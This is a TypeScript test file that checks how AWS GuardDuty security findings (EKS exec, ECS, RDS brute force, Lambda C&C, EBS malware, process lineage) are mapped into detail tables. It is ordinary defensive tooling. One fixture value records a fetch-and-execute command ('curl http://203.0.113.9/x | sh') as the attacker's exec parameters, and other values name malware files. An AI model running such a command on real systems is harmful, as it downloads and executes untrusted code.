import { describe, expect, it } from 'vitest';
import { mapRows, type TableRow } from '../../../src/datatables/map-rows.js';
import type { Finding } from '../../../src/findings/finding.js';
import { loadFinding } from '../../fixtures/findings/load-finding.js';

const table = (rows: TableRow[], name: string): Record<string, string>[] => rows.filter((r) => r.table === name).map((r) => r.cells);
const rowsOf = (scenario: string, name: string): Record<string, string>[] => table(mapRows(loadFinding(scenario)), name);

const FAMILY_TABLES = [
  'gd_kubernetes_details', 'gd_container_details', 'gd_rds_details', 'gd_lambda_details', 'gd_malware_details',
  'gd_ebs_volume_details', 'gd_runtime_process_details',
];

describe('finding-family tables', () => {
  it('EKS exec in kube-system: one Kubernetes row with who, what and where; the pod’s container', () => {
    expect(rowsOf('eks-exec-in-kube-system', 'gd_kubernetes_details')).toEqual([{
      cluster_name: 'prod-eks', cluster_arn: 'arn:aws:eks:eu-west-1:111122223333:cluster/prod-eks', cluster_status: 'ACTIVE',
      cluster_vpc_id: 'vpc-0eks0000000000001', namespace: 'kube-system', workload_name: 'aws-node-x7k2p', workload_type: 'pods',
      service_account: 'aws-node', host_network: 'True', host_pid: 'False', host_ipc: 'False', kubernetes_user: 'kubernetes-admin',
      kubernetes_groups: 'system:masters, system:authenticated', session_names: 'mallory-session', impersonated_user: 'system:node:ip-10-0-3-7',
      api_verb: 'create', api_resource: 'pods/exec', api_resource_name: 'aws-node-x7k2p',
      request_uri: '/api/v1/namespaces/kube-system/pods/aws-node-x7k2p/exec?command=sh', status_code: '101',
      user_agent: 'kubectl/v1.29.0 (linux/amd64)', source_ips: '203.0.113.80, 198.51.100.81',
      api_parameters: '{"command":["sh","-c","curl http://203.0.113.9/x | sh"]}',
    }]);
    expect(rowsOf('eks-exec-in-kube-system', 'gd_container_details')).toEqual([{
      found_in: 'Kubernetes workload', cluster_name: 'prod-eks', workload_name: 'aws-node-x7k2p', container_name: 'aws-node',
      container_id: '0c'.repeat(32), container_runtime: 'containerd',
      image: '602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.18.0', image_prefix: '602401143452.dkr.ecr.eu-west-1.amazonaws.com',
      privileged: 'True', allow_privilege_escalation: 'False', volume_mounts: 'cni-bin-dir:/host/opt/cni/bin',
    }]);
  });

  it('a Kubernetes finding with only the anonymous user and the API call still gets its row', () => {
    expect(rowsOf('kubernetes-api-call', 'gd_kubernetes_details')).toEqual([{
      cluster_name: 'prod', cluster_arn: 'arn:aws:eks:us-east-1:123456789012:cluster/prod', cluster_status: 'ACTIVE',
      kubernetes_user: 'system:anonymous', api_verb: 'list', request_uri: '/api/v1/namespaces/kube-system/secrets', status_code: '200',
      user_agent: 'kubectl/v1.29.0', source_ips: '198.51.100.150, 192.0.2.150',
    }]);
    expect(rowsOf('kubernetes-api-call', 'gd_container_details')).toEqual([]);
  });

  it('ECS runtime finding with two containers: a row per container, each with its task', () => {
    const task = {
      found_in: 'ECS task', cluster_name: 'payments', task_arn: 'arn:aws:ecs:us-west-2:444455556666:task/payments/0123456789abcdef0123456789abcdef',
      task_definition_arn: 'arn:aws:ecs:us-west-2:444455556666:task-definition/payments-api:42', launch_type: 'FARGATE',
      task_started_at: '2025-05-05T08:01:40.000Z', task_started_by: 'ecs-svc/1234567890',
    };
    expect(rowsOf('ecs-runtime-two-containers', 'gd_container_details')).toEqual([
      { ...task, container_name: 'api', container_id: 'a1'.repeat(32), container_runtime: 'containerd', image: 'public.ecr.aws/example/payments-api:1.4.2',
        image_prefix: 'public.ecr.aws', privileged: 'True', allow_privilege_escalation: 'True', volume_mounts: 'host-root:/host' },
      { ...task, container_name: 'log-router', container_id: 'b2'.repeat(32), image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.0',
        privileged: 'False', allow_privilege_escalation: 'False' },
    ]);
    expect(table(mapRows(loadFinding('ecs-runtime-two-containers')), 'gd_finding_overview')[0]?.resource_id).toBe('payments');
  });

  it('an ECS cluster without task details still gets its row', () => {
    const finding = { ...loadFinding('no-title-no-severity'), Resource: { EcsClusterDetails: { Name: 'idle', Status: 'ACTIVE' } } } as Finding;
    expect(table(mapRows(finding), 'gd_container_details')).toEqual([{ found_in: 'ECS cluster', cluster_name: 'idle' }]);
  });

  it('RDS brute force against two users: one row per login attribute, each with the database', () => {
    const db = {
      db_instance_id: 'orders-db-1', db_cluster_id: 'orders-cluster', db_arn: 'arn:aws:rds:us-east-1:777788889999:db:orders-db-1',
      engine: 'aurora-postgresql', engine_version: '15.4', database: 'orders', db_user: 'app_admin', application: 'psql',
      auth_method: 'PASSWORD', ssl: 'true',
    };
    expect(rowsOf('rds-brute-force-two-users', 'gd_rds_details')).toEqual([
      { ...db, login_user: 'app_admin', login_application: 'psql', failed_login_attempts: '250', successful_login_attempts: '1' },
      { ...db, login_user: 'postgres', login_application: 'psql', failed_login_attempts: '120', successful_login_attempts: '0' },
    ]);
  });

  it('RDS without a login attempt, and Aurora Limitless: one row from the resource', () => {
    const finding = {
      ...loadFinding('no-title-no-severity'),
      Resource: { RdsLimitlessDbDetails: { DbShardGroupIdentifier: 'orders-shards', Engine: 'aurora-postgresql', DbClusterIdentifier: 'c1' } },
    } as Finding;
    expect(table(mapRows(finding), 'gd_rds_details')).toEqual([{ db_shard_group_id: 'orders-shards', db_cluster_id: 'c1', engine: 'aurora-postgresql' }]);
    expect(table(mapRows(finding), 'gd_finding_overview')[0]?.resource_id).toBe('orders-shards');
  });

  it('Lambda C&C: the function, its version, role and network', () => {
    expect(rowsOf('lambda-c2', 'gd_lambda_details')).toEqual([{
      function_name: 'image-resizer', function_arn: 'arn:aws:lambda:ap-southeast-1:121212121212:function:image-resizer',
      function_version: '$LATEST', function_description: 'Resizes uploaded images', role: 'arn:aws:iam::121212121212:role/image-resizer-role',
      last_modified_at: '2025-07-04T07:00:00.000Z', revision_id: '9e9e9e9e-1111-4222-8333-9e9e9e9e9e9e', vpc_id: 'vpc-0lambda0000000001',
      subnet_ids: 'subnet-0aaa000000000001, subnet-0aaa000000000002', security_groups: 'sg-0lambda000000001 (lambda), sg-0lambda000000002',
    }]);
  });

  it('EBS malware with two threats: a row per threat and file; a row per scanned and skipped volume', () => {
    const scan = { scan_id: '5ca05ca05ca05ca05ca05ca05ca05ca0', scan_type: 'GUARDDUTY_INITIATED' };
    const volume = 'arn:aws:ec2:us-east-1:123456789012:volume/vol-0a0a0a0a0a0a0a0a0';
    expect(rowsOf('ebs-malware-two-threats', 'gd_malware_details')).toEqual([
      { threat_name: 'EICAR-Test-File (not a virus)', threat_severity: 'MEDIUM', file_path: '/tmp/eicar.com', file_name: 'eicar.com',
        file_hash: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f', resource_arn: volume, ...scan },
      { threat_name: 'Trojan.Linux.Miner', threat_severity: 'HIGH', file_path: '/var/tmp/.cache/kworkerd', file_name: 'kworkerd',
        file_hash: '9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08', resource_arn: volume, ...scan },
      { threat_name: 'Trojan.Linux.Miner', threat_severity: 'HIGH', file_path: '/usr/local/bin/kworkerd', file_name: 'kworkerd',
        file_hash: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', resource_arn: volume, ...scan },
    ]);
    const scanCells = {
      scan_id: scan.scan_id, scan_started_at: '2025-09-09T09:00:00.000Z', scan_completed_at: '2025-09-09T09:07:00.000Z', scan_sources: 'Bitdefender, Amazon',
    };
    expect(rowsOf('ebs-malware-two-threats', 'gd_ebs_volume_details')).toEqual([
      { scan_result: 'Scanned', volume_arn: volume, device_name: '/dev/xvda', volume_type: 'gp3', volume_size_gb: '30', encryption_type: 'CMK',
        kms_key_arn: 'arn:aws:kms:us-east-1:123456789012:key/aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee',
        snapshot_arn: 'arn:aws:ec2:us-east-1::snapshot/snap-0a0a0a0a0a0a0a0a0', ...scanCells },
      { scan_result: 'Skipped', volume_arn: 'arn:aws:ec2:us-east-1:123456789012:volume/vol-0b0b0b0b0b0b0b0b0', device_name: '/dev/xvdb',
        volume_type: 'st1', volume_size_gb: '2000', encryption_type: 'UNENCRYPTED', ...scanCells },
    ]);
    // The instance the volumes belong to keeps its own rows.
    expect(rowsOf('ebs-malware-two-threats', 'gd_instance_details')).toHaveLength(1);
  });

  it('snapshot malware scan: item details win over the older item paths; a threat with paths only still has its file', () => {
    const scan = { scan_id: '6d6d6d6d6d6d6d6d6d6d6d6d6d6d6d6d', scan_type: 'BACKUP_INITIATED' };
    const snapshot = 'arn:aws:ec2:us-east-1::snapshot/snap-0c0c0c0c0c0c0c0c0';
    expect(rowsOf('snapshot-malware-item-details', 'gd_malware_details')).toEqual([
      { threat_name: 'Win32.Dropper.Gen', threat_source: 'Bitdefender', file_path: 'C:\\Users\\Public\\dropper.exe', file_name: 'dropper.exe',
        file_hash: '84983e441c3bd26ebaae4aa1f95129e5e54670f1', resource_arn: snapshot, device_name: '/dev/xvda', ...scan },
      { threat_name: 'Win32.Dropper.Gen', threat_source: 'Bitdefender', file_path: '/opt/app/plugins/evil.jar', file_name: 'evil.jar',
        file_hash: 'a9993e364706816aba3e25717850c26c9cd0d89d', resource_arn: snapshot, ...scan },
      { threat_name: 'Linux.Backdoor.Tiny', threat_source: 'Amazon', file_path: '/home/u/archive.zip/payload.bin', file_name: 'payload.bin',
        file_hash: 'd41d8cd98f00b204e9800998ecf8427e', ...scan },
    ]);
    expect(rowsOf('snapshot-malware-item-details', 'gd_ebs_volume_details')).toEqual([]);
    expect(table(mapRows(loadFinding('snapshot-malware-item-details')), 'gd_finding_overview')[0]?.resource_id).toBe(snapshot);
  });

  it('runtime process with lineage: depth 0 is the process, then each ancestor; then the target process', () => {
    const rows = rowsOf('runtime-process-lineage', 'gd_runtime_process_details');
    expect(rows.map((r) => [r.process_role, r.depth, r.name])).toEqual([
      ['Process', '0', 'inject'], ['Process', '1', 'bash'], ['Process', '2', 'python3'], ['Process', '3', 'containerd-shim'],
      ['Target process', '0', 'sshd'],
    ]);
    expect(rows[0]).toEqual({
      process_role: 'Process', depth: '0', name: 'inject', executable_path: '/dev/shm/inject',
      executable_sha256: 'd7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592', pid: '4401', namespace_pid: '41', user: 'app',
      user_id: '1000', euid: '0', start_time: '2025-10-01T11:59:30.000Z', pwd: '/dev/shm', uuid: 'p0', parent_uuid: 'p1',
    });
    expect(rows[1]).toEqual({
      process_role: 'Process', depth: '1', name: 'bash', executable_path: '/bin/bash', pid: '310', user_id: '1000',
      start_time: '2025-10-01T11:58:00.000Z', uuid: 'p1', parent_uuid: 'p2',
    });
    expect(rowsOf('runtime-process-lineage', 'gd_container_details')).toEqual([{
      found_in: 'Container', container_name: 'worker', container_id: 'c3'.repeat(32), container_runtime: 'docker',
      image: 'docker.io/library/alpine:3.19', image_prefix: 'docker.io', privileged: 'False',
    }]);
  });

  it('findings of the older families get no row in the new tables', () => {
    for (const scenario of ['port-probe-two-details', 's3-two-buckets', 'instance-two-nics', 'dns-request', 'access-key-api-call',
      'critical-attack-sequence', 'no-title-no-severity', 'hostile-strings', 'same-values-different-types']) {
      const tables = new Set(mapRows(loadFinding(scenario)).map((r) => r.table));
      for (const name of FAMILY_TABLES) expect(tables.has(name), `${scenario}: ${name}`).toBe(false);
    }
  });

  it('empty or ill-typed members give no row (never a row of labels only) and never throw', () => {
    const finding = {
      ...loadFinding('no-title-no-severity'),
      Resource: {
        ContainerDetails: {}, EcsClusterDetails: { TaskDetails: { Containers: [null, {}, 'x'] } }, LambdaDetails: 'nope',
        KubernetesDetails: { KubernetesWorkloadDetails: { Containers: {} } }, EbsVolumeDetails: { ScannedVolumeDetails: [{}], SkippedVolumeDetails: 3 },
      },
      Service: {
        RuntimeDetails: { Process: { Lineage: [{}, null] }, Context: { TargetProcess: [] } },
        EbsVolumeScanDetails: { ScanId: 's1', ScanDetections: { ThreatDetectedByName: { ThreatNames: [{}, { FilePaths: 'x' }] } } },
        MalwareScanDetails: { Threats: [{ ItemDetails: [{}] }] },
        Action: { RdsLoginAttemptAction: { LoginAttributes: 'x' } },
      },
    } as unknown as Finding;
    const tables = new Set(mapRows(finding).map((r) => r.table));
    for (const name of FAMILY_TABLES) expect(tables.has(name), name).toBe(false);
  });
});
